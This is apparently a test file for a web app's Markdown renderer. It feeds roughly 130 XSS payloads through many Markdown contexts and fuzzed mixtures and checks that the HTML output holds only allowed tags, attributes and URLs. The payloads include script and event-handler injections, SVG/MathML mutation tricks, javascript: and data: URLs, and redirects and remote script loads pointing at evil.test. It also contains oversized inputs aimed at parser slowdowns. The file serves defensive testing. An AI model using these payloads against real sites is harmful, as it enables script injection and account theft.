import * as fc from 'fast-check'
import { type DefaultTreeAdapterMap, html as htmlNames, parseFragment, serialize } from 'parse5'
import { describe, expect, test } from 'vitest'
import { renderMarkdown } from './markdown.ts'
import { maxMarkdownLength } from './markdown.parse.ts'

// Attack test A23 for everything written in Markdown. The judge is the parser of the HTML standard: what it reads must consist of
// the tags and attributes below, must lead nowhere but to the web, to a mailbox or to this instance, and must be what was written
// (no repair, hence no mutation on the second parse).

const runs = Number(process.env['EVENKEEL_PROPERTY_RUNS'] ?? 500)

type Node = DefaultTreeAdapterMap['node']

const allowed: Readonly<Record<string, readonly string[]>> = {
  p: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  ul: [],
  ol: ['start'],
  li: [],
  blockquote: [],
  pre: [],
  code: ['class'],
  hr: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['scope', 'class'],
  td: ['class'],
  strong: [],
  em: [],
  s: [],
  br: [],
  a: ['class', 'href', 'rel'],
  img: ['src', 'alt', 'loading'],
}

const base = 'https://desk.example.org'

const dangers = (node: Node): string[] => {
  const found: string[] = []
  if (node.nodeName === '#comment' || node.nodeName === '#documentType') found.push(node.nodeName)
  if ('tagName' in node) {
    const attributes = allowed[node.tagName]
    if (attributes === undefined || node.namespaceURI !== htmlNames.NS.HTML) found.push(`<${node.tagName}>`)
    for (const { name, value } of node.attrs) {
      if (!attributes?.includes(name)) found.push(`<${node.tagName} ${name}>`)
      if (name === 'href') {
        const url = URL.parse(value, base)
        if (url === null || !['http:', 'https:', 'mailto:'].includes(url.protocol))
          found.push(`href=${value}`)
        if (value.startsWith('/') && url?.origin !== base) found.push(`another host: ${value}`)
      }
      if (name === 'src' && !new RegExp('^/api/v1/attachments/[\\w./-]+$').test(value))
        found.push(`src=${value}`)
      if (name === 'src' && !URL.parse(value, base)?.pathname.startsWith('/api/v1/attachments/'))
        found.push(`src=${value}`)
      if (name === 'rel' && value !== 'noopener noreferrer nofollow') found.push(`rel=${value}`)
    }
    if (node.tagName === 'a' && !node.attrs.some(({ name }) => name === 'rel'))
      found.push('a link without rel')
  }
  if ('childNodes' in node) for (const child of node.childNodes) found.push(...dangers(child))
  return found
}

const verdict = (html: string) => {
  const fragment = parseFragment(html)
  return { dangers: dangers(fragment), readAsWritten: serialize(fragment) === html }
}

const harmless = { dangers: [], readAsWritten: true }

const payloads: readonly string[] = [
  // Plain script and handlers
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script\u0000>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`` onerror=alert(1)">',
  '<img/src=x/onerror=alert(1)//',
  '<img src=x onerror\n=\nalert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="x" onmouseover=alert(1)>x</a>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script>',
  '</code></pre><img src=x onerror=alert(1)>',
  '</td></table><img src=x onerror=alert(1)>',
  '<p/onclick=alert(1)>x',
  '<x onclick=alert(1) style=position:fixed;inset:0>x</x>',
  // Other languages inside HTML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  // Mutation on the second parse
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><td><a href="javascript:alert(1)">x</table>',
  // What loads, sends or covers
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src=javascript:alert(1)>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import "https://evil.test/x.css"</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<portal src=https://evil.test>',
  // Addresses
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript\\:alert(1)',
  'javascript%3Aalert(1)',
  'javascript://evil.test/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'DATA:image/gif;base64,R0lGODlhAQABAAAAACw=',
  'file:///etc/passwd',
  'blob:https://desk.example.org/1',
  'filesystem:https://desk.example.org/x',
  'view-source:https://desk.example.org',
  'ftp://evil.test/x',
  '//evil.test/x',
  '/\\evil.test/x',
  '\\\\evil.test\\x',
  '/\t/evil.test',
  '/&Tab;/evil.test',
  '/&#92;evil.test',
  '/%09/evil.test',
  '/..//evil.test/',
  'https:evil.test',
  'https:/\\evil.test',
  'https://desk.example.org@evil.test/',
  'https://user:pass@evil.test/',
  'https://evil.test\\@desk.example.org/',
  'https://evil.test/"onmouseover="alert(1)',
  "https://evil.test/'onmouseover='alert(1)",
  'https://evil.test/<script>alert(1)</script>',
  'https://evil.test/`onmouseover=alert(1)`',
  'https://[::1',
  'http://%00evil.test/',
  'mailto:a@b.test?bcc=victim@c.test',
  'mailto:a@b.test,victim@c.test',
  'mailto:"a b"@b.test',
  '/api/v1/attachments/../../../logout',
  '/api/v1/attachments/%2e%2e/logout',
  '/api/v1/attachments//evil.test/x.png',
  '/api/v1/attachments/x?redirect=https://evil.test',
  'https://evil.test/api/v1/attachments/x.png',
  // Markup of our own turned against us
  '![x](https://evil.test/pixel.gif)',
  '[![x](https://evil.test/pixel.gif)](https://evil.test)',
  '[a [b](javascript:alert(1)) c](javascript:alert(2))',
  '[a](javascript:alert(1)"onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x][y]\n\n[y]: data:text/html,x "onload=alert(1)"',
  '<javascript:alert(1)>',
  '<https://evil.test"onmouseover="alert(1)>',
  '```"><script>alert(1)</script>\nx\n```',
  '``` js" onmouseover="alert(1)\nx\n```',
  '@"><script>alert(1)</script>',
  '@a" onmouseover="alert(1)',
  '`</code><script>alert(1)</script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '*<*script>alert(1)<*/*script>',
  '\ud800<script>alert(1)</script>\udfff',
  '\ufeff<script>alert(1)</script>',
  '&#0;<script>&#13;alert(1)</script>',
]

const contexts: Readonly<Record<string, (payload: string) => string>> = {
  'as the text': (p) => p,
  'as a link': (p) => `[x](${p})`,
  'as a link in angle brackets': (p) => `[x](<${p}>)`,
  'as a link beside a title': (p) => `[x](https://example.org "${p}")`,
  'as the words of a link': (p) => `[${p}](https://example.org)`,
  'as a bare link': (p) => `<${p}>`,
  'as a picture': (p) => `![x](${p})`,
  'as a picture in angle brackets': (p) => `![x](<${p}>)`,
  'as the description of a picture': (p) => `![${p}](/api/v1/attachments/0190-a/content)`,
  'in a heading': (p) => `# ${p}`,
  'in a quote': (p) => `> ${p}`,
  'in a list': (p) => `- ${p}\n1. ${p}`,
  'in a table': (p) => `| a | ${p} |\n|---|:-:|\n| ${p} | b |`,
  'in code': (p) => `\`\`${p}\`\``,
  'in a block of code': (p) => `~~~ ${p}\n${p}\n~~~`,
  'indented as code': (p) => `    ${p}`,
  'in emphasis': (p) => `**${p}** _${p}_ ~~${p}~~`,
  'after an open tag': (p) => `<a href="${p}">`,
  'after a web address': (p) => `https://example.org/${p}`,
}

describe('nothing that a browser would run survives', () => {
  test('the corpus is as large as it says', () => {
    expect(new Set(payloads).size).toBe(payloads.length)
    expect(payloads.length).toBeGreaterThanOrEqual(130)
  })

  for (const [name, place] of Object.entries(contexts)) {
    test(name, () => {
      for (const payload of payloads) {
        for (const options of [{}, { origin: base }]) {
          const html = renderMarkdown(place(payload), options)
          expect({ payload, html, ...verdict(html) }).toEqual({ payload, html, ...harmless })
        }
      }
    })
  }

  test('as the answer to a mention or a number', () => {
    for (const payload of payloads) {
      const html = renderMarkdown('@ana ABC0001042', { mention: () => payload, record: () => payload })
      expect({ payload, html, ...verdict(html) }).toEqual({ payload, html, ...harmless })
    }
  })

  test('in any mixture', () => {
    const fragment = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(
        '*',
        '**',
        '_',
        '~~',
        '`',
        '```\n',
        '[',
        ']',
        '(',
        ')',
        '](',
        '![',
        '<',
        '>',
        '\n',
        '\n\n',
        '    ',
        '\t',
        '|',
        '|-|-|\n',
        '- ',
        '1. ',
        '999999999. ',
        '# ',
        '> ',
        '\\',
        '&',
        '&amp;',
        '&#x00;',
        '&nbsp;',
        '\u00a0',
        '\r',
        '\0',
        '"',
        "'",
        '@ana',
        'ABC0001042',
        'https://',
        '://',
        '/',
        '/api/v1/attachments/a',
        '\u202e',
        '\u2028',
        '\ud83d',
        '😀',
      ),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 25 }), (fragments) => {
        const html = renderMarkdown(fragments.join(''), {
          mention: (h) => `/people/${h}`,
          record: (n) => `/records/${n}`,
        })
        expect({ html, ...verdict(html) }).toEqual({ html, ...harmless })
      }),
      { numRuns: runs },
    )
  })
})

// Attack test A34. Were any of these more than linear, 100 kB would take minutes and the runner would end the test; what is asserted is
// that nothing is lost, nothing overflows and the output stays in proportion.
describe('a hundred kilobytes of anything are read in one go', () => {
  const size = maxMarkdownLength
  const fill = (unit: string): string => unit.repeat(Math.ceil(size / unit.length)).slice(0, size)
  const growing = (unit: string): string =>
    Array.from({ length: 440 }, (_, index) => unit.repeat(index + 1))
      .join('a')
      .slice(0, size)

  const hostile: Readonly<Record<string, string>> = {
    ...Object.fromEntries(
      [
        '[',
        '![',
        '[a',
        'a]',
        '](',
        '[](',
        '[a](',
        '[a](<b',
        '[a](b "',
        '[[]()',
        '![[]()',
        '[a](b)',
        '*',
        '*a ',
        'a* ',
        '**a *a ',
        '*_',
        '***a',
        'a**b',
        '_a ',
        '~',
        '~~a ',
        '>',
        '> ',
        '>\n',
        '> a\n\n',
        '>- ',
        '>- 1. ',
        '- ',
        '* - + ',
        '- a\n',
        '1. ',
        '- a\n  ',
        '\\',
        '`a',
        '```\n',
        '~~~',
        '<',
        '<a ',
        '<a b="',
        '<!--',
        '<?',
        '<http://',
        '&',
        '&#1',
        '&amp',
        '|',
        'a|',
        '#',
        '# a\n',
        '\n',
        ' \n',
        '\t',
        '\r',
        '\0',
        '😀',
        '\ud800',
        'http://',
        'http://a ',
        'http://a*',
        "http://a'",
        'https://a(',
        'http://a@',
        'mailto:',
        'a@',
        '@a ',
        '@a.',
        '@',
        'ABC0001042 ',
        'AB',
        'A1',
        '//',
        ':',
        'x\n>',
        'a\n=\n',
        '[a]: b\n',
      ].map((unit) => [unit, fill(unit)]),
    ),
    'code marks of growing length': growing('`'),
    'lists of growing depth': Array.from({ length: 440 }, (_, index) => `${' '.repeat(index)}* a`)
      .join('\n')
      .slice(0, size),
    'emphasis within emphasis': fill('*a ').slice(0, size / 2) + fill('a* ').slice(0, size / 2),
    'stars around a word': `${'*'.repeat(size / 2 - 1)}a${'*'.repeat(size / 2)}`,
    'links within links': fill('[').slice(0, size / 2) + fill('](y)').slice(0, size / 2),
    'pictures within pictures': fill('![').slice(0, size / 3) + fill('](y)').slice(0, size / 2),
    'a wide table with many empty rows': `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${fill('|\n')}`.slice(
      0,
      size,
    ),
    'a table of one row': `${'a|'.repeat(size / 4)}\n${'-|'.repeat(size / 4)}`.slice(0, size),
    'a quote with lazy lines': '> '.repeat(30) + fill('a\n').slice(0, size - 60),
    'one web address': `http://a/${fill('.')}`.slice(0, size),
    'one host': `http://${fill('a.')}`.slice(0, size),
    'one defined link used everywhere': `[a]: http://${'b'.repeat(size / 2)}\n\n${fill('[a]')}`.slice(
      0,
      size,
    ),
  }

  for (const [name, source] of Object.entries(hostile)) {
    test(JSON.stringify(name), () => {
      const html = renderMarkdown(source, { mention: (h) => `/people/${h}`, record: (n) => `/records/${n}` })
      expect(html.length).toBeLessThanOrEqual(source.length * 12)
      expect(verdict(html)).toEqual(harmless)
    })
  }
})
